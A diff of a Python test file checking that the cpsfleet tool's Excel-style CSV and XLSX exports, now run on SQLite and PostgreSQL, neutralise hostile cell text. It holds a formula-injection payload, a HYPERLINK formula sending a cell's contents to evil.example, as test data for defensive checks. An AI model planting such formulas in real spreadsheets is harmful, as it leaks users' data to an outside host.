@@ -1,6 +1,6 @@
 """Exports people open: ``--format csv-excel`` (``;`` and a byte order mark, as Excel set for
 France reads a CSV on a double-click) and ``--format xlsx`` (typed cells), from the command
-and from the dashboard, on real SQLite; hostile text neutralised in both."""
+and from the dashboard, on real SQLite and PostgreSQL; hostile text neutralised in both."""
 
 from __future__ import annotations
 
@@ -20,6 +20,7 @@ from openpyxl.worksheet.worksheet import Worksheet
 from typer.testing import CliRunner, Result
 
 from cpsfleet.controller.cli.exports import register
+from cpsfleet.controller.db.connect import is_postgres
 from cpsfleet.controller.db.people import People
 from cpsfleet.controller.db.store import Store
 from cpsfleet.controller.filters import Filters
@@ -38,6 +39,7 @@ DOCTOR, NURSE = "99213845", "10452278"
 CHAMBERY, CHAMBERY_HOST = "Chambéry", "c4a7b0e2d9f81136"
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
 NUL = "\0=1+2"
+KEPT_NUL = "\ufffd=1+2"  # NUL as XML (and PostgreSQL's text) keeps it
 # Réunion: no summer time, four hours ahead of UTC all year.
 REUNION = ZoneInfo("Indian/Reunion")
 DAY = timedelta(days=1)
@@ -58,13 +60,13 @@ def chambery() -> dict[str, Any]:
 
 
 @pytest.fixture(scope="module")
-def database(tmp_path_factory: pytest.TempPathFactory) -> Path:
+def fleet(module_database: str) -> str:
     """Lyon and Chambéry, four readers each, and the sample roster."""
-    path = tmp_path_factory.mktemp("excel") / "fleet.db"
-    with Store(path) as store:
+    with Store(module_database) as store:
         store.record_status(lyon(), NOW)
         store.record_status(chambery(), NOW)
-    return imported(path)
+    imported(module_database)
+    return module_database
 
 
 @pytest.fixture(scope="module")
@@ -74,9 +76,9 @@ def config(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return path
 
 
-def exported(what: str, database: Path, config: Path, *args: str) -> Result:
+def exported(what: str, database: str, config: Path, *args: str) -> Result:
     result = CliRunner().invoke(
-        app, ["export", what, "--database", str(database), "--config", str(config), *args]
+        app, ["export", what, "--database", database, "--config", str(config), *args]
     )
     assert result.exit_code == 0, result.output
     return result
@@ -109,8 +111,8 @@ def local(moment: datetime, zone: ZoneInfo) -> datetime:
 # --- CSV for Excel ------------------------------------------------------------------------
 
 
-def test_excel_csv_reads_back_with_semicolons_and_the_accents(database: Path, config: Path) -> None:
-    output = exported("cards", database, config, "--format", "csv-excel").stdout_bytes
+def test_excel_csv_reads_back_with_semicolons_and_the_accents(fleet: str, config: Path) -> None:
+    output = exported("cards", fleet, config, "--format", "csv-excel").stdout_bytes
     assert output.startswith(b"\xef\xbb\xbfserial;kind;surname;")  # the BOM, then ;
     columns, rows = excel_csv(output.decode("utf-8-sig"))
     assert columns == CARD_COLUMNS
@@ -127,26 +129,23 @@ def test_excel_csv_reads_back_with_semicolons_and_the_accents(database: Path, co
 
 
 def test_excel_csv_quotes_hostile_text_and_keeps_separators_inside_cells(
-    database: Path, config: Path
+    fleet: str, config: Path
 ) -> None:
     _, rows = excel_csv(
-        exported("cards", database, config, "--format", "csv-excel").stdout_bytes.decode(
-            "utf-8-sig"
-        )
+        exported("cards", fleet, config, "--format", "csv-excel").stdout_bytes.decode("utf-8-sig")
     )
     hostile = next(row for row in rows if row["serial"] == f"{DOCTOR}-chy")
     assert hostile["surname"] == f"'{HYPERLINK}"
-    assert hostile["given_name"] == f"'{NUL}"
+    # PostgreSQL keeps NUL as U+FFFD: no formula lead left there, nothing to quote.
+    assert hostile["given_name"] == (KEPT_NUL if is_postgres(fleet) else f"'{NUL}")
     stream = io.StringIO(newline="")
     exports.write_excel_csv([{"a": "x;y", "b": 'say "hi"'}], ("a", "b"), stream)
     assert stream.getvalue() == '\ufeffa;b\r\n"x;y";"say ""hi"""\r\n'
 
 
-def test_excel_csv_to_a_file_opens_as_utf_8_sig(
-    database: Path, config: Path, tmp_path: Path
-) -> None:
+def test_excel_csv_to_a_file_opens_as_utf_8_sig(fleet: str, config: Path, tmp_path: Path) -> None:
     target = tmp_path / "hosts.csv"
-    exported("hosts", database, config, "--format", "csv-excel", "--output", str(target))
+    exported("hosts", fleet, config, "--format", "csv-excel", "--output", str(target))
     with target.open(encoding="utf-8-sig", newline="") as stream:
         reader = csv.DictReader(stream, delimiter=";")
         rows = list(reader)
@@ -157,8 +156,8 @@ def test_excel_csv_to_a_file_opens_as_utf_8_sig(
     ]
 
 
-def test_excel_csv_of_the_readiness(database: Path, config: Path) -> None:
-    output = exported("readiness", database, config, "--format", "csv-excel").stdout_bytes
+def test_excel_csv_of_the_readiness(fleet: str, config: Path) -> None:
+    output = exported("readiness", fleet, config, "--format", "csv-excel").stdout_bytes
     columns, rows = excel_csv(output.decode("utf-8-sig"))
     assert columns == READINESS_COLUMNS
     assert {row["surname"] for row in rows} == {"DONNAT-GADY", "MARTIN", "ROUSSEAU", "BERNARD"}
@@ -167,9 +166,9 @@ def test_excel_csv_of_the_readiness(database: Path, config: Path) -> None:
 # --- XLSX ---------------------------------------------------------------------------------
 
 
-def test_xlsx_cards_are_typed(database: Path, config: Path, tmp_path: Path) -> None:
+def test_xlsx_cards_are_typed(fleet: str, config: Path, tmp_path: Path) -> None:
     target = tmp_path / "cards.xlsx"
-    result = exported("cards", database, config, "--format", "xlsx", "--output", str(target))
+    result = exported("cards", fleet, config, "--format", "xlsx", "--output", str(target))
     assert result.stdout == ""
     assert [path.name for path in tmp_path.iterdir()] == ["cards.xlsx"]  # no temporary left
     sheet = workbook(target)
@@ -193,9 +192,9 @@ def test_xlsx_cards_are_typed(database: Path, config: Path, tmp_path: Path) -> N
     assert vitale["expires"].value is None and vitale["days_left"].value is None
 
 
-def test_xlsx_neutralises_hostile_text(database: Path, config: Path, tmp_path: Path) -> None:
+def test_xlsx_neutralises_hostile_text(fleet: str, config: Path, tmp_path: Path) -> None:
     target = tmp_path / "cards.xlsx"
-    exported("cards", database, config, "--format", "xlsx", "--output", str(target))
+    exported("cards", fleet, config, "--format", "xlsx", "--output", str(target))
     hostile = next(
         row for row in records(workbook(target)) if row["serial"].value == "99213845-chy"
     )
@@ -203,15 +202,15 @@ def test_xlsx_neutralises_hostile_text(database: Path, config: Path, tmp_path: P
     assert surname.value == HYPERLINK  # the text as it is, ...
     assert surname.data_type == "s"  # ... in a text cell, never a formula ("f")
     assert surname.quotePrefix  # and kept text when someone edits it in Excel
-    assert given_name.value == "\ufffd=1+2" and given_name.data_type == "s"  # XML has no NUL
-    assert given_name.quotePrefix
+    assert given_name.value == KEPT_NUL and given_name.data_type == "s"  # XML has no NUL
+    assert given_name.quotePrefix == (not is_postgres(fleet))  # PostgreSQL kept no NUL
     assert not hostile["host"].quotePrefix  # plain text is plain
 
 
-def test_xlsx_hosts_and_readiness(database: Path, config: Path, tmp_path: Path) -> None:
+def test_xlsx_hosts_and_readiness(fleet: str, config: Path, tmp_path: Path) -> None:
     hosts, readiness = tmp_path / "hosts.xlsx", tmp_path / "readiness.xlsx"
-    exported("hosts", database, config, "--format", "xlsx", "--output", str(hosts))
-    exported("readiness", database, config, "--format", "xlsx", "--output", str(readiness))
+    exported("hosts", fleet, config, "--format", "xlsx", "--output", str(hosts))
+    exported("readiness", fleet, config, "--format", "xlsx", "--output", str(readiness))
     sheet = workbook(hosts)
     assert tuple(cell.value for cell in sheet[1]) == HOST_COLUMNS
     rows = {row["hostname"].value: row for row in records(sheet)}
@@ -233,10 +232,10 @@ def test_xlsx_hosts_and_readiness(database: Path, config: Path, tmp_path: Path) 
     assert people["BERNARD"]["card_expires"].value is None
 
 
-def test_xlsx_needs_an_output_file(database: Path, config: Path) -> None:
+def test_xlsx_needs_an_output_file(fleet: str, config: Path) -> None:
     for what in ("hosts", "cards", "readiness"):
         result = CliRunner().invoke(
-            app, ["export", what, "--database", str(database), "--format", "xlsx"]
+            app, ["export", what, "--database", str(fleet), "--format", "xlsx"]
         )
         assert result.exit_code == 2
         assert result.stdout == ""
@@ -262,12 +261,12 @@ def test_xlsx_days_are_dates() -> None:
 
 
 @pytest.fixture(scope="module")
-def url(database: Path) -> Iterator[str]:
-    with serving(database) as address:
+def url(fleet: str) -> Iterator[str]:
+    with serving(fleet) as address:
         yield address
 
 
-def test_the_dashboard_downloads_both(url: str, database: Path) -> None:
+def test_the_dashboard_downloads_both(url: str, fleet: str) -> None:
     reply = fetch(url, "/export/cards.csv-excel?site=Chamb%C3%A9ry")
     assert reply.status == 200
     assert reply.headers["content-type"] == "text/csv; charset=utf-8"
@@ -275,7 +274,7 @@ def test_the_dashboard_downloads_both(url: str, database: Path) -> None:
         f'attachment; filename="cpsfleet-cards-{NOW:%Y-%m-%d}-excel.csv"'
     )
     settings = ControllerSettings()
-    with Store.open_readonly(database) as store:
+    with Store.open_readonly(fleet) as store:
         rows = webdata.cards(store, NOW, settings.thresholds, Filters(CHAMBERY))
     assert reply.body == exports.render(rows, CARD_COLUMNS, "csv-excel")
     columns, chosen = excel_csv(reply.body.decode("utf-8-sig"))
@@ -310,12 +309,12 @@ def test_pages_link_the_excel_downloads(url: str) -> None:
         assert f'href="/export/cards.{suffix}?site=Grenoble"' in html
 
 
-def test_every_download_is_in_the_audit_trail(url: str, database: Path) -> None:
+def test_every_download_is_in_the_audit_trail(url: str, fleet: str) -> None:
     """Who took which file with which filters: the fleet leaves the building in downloads."""
     assert fetch(url, "/export/hosts.xlsx?site=Chamb%C3%A9ry&severity=").status == 200
     assert fetch(url, "/export/readiness.csv-excel").status == 200
     assert fetch(url, "/export/cards.xls").status == 404  # nothing taken, nothing recorded
-    with Store.open_readonly(database) as store:
+    with Store.open_readonly(fleet) as store:
         entries = People(store.database).audit(action="export", limit=2)
     assert [(entry.actor, entry.target, entry.detail) for entry in entries] == [
         ("token", "readiness.csv-excel", {}),
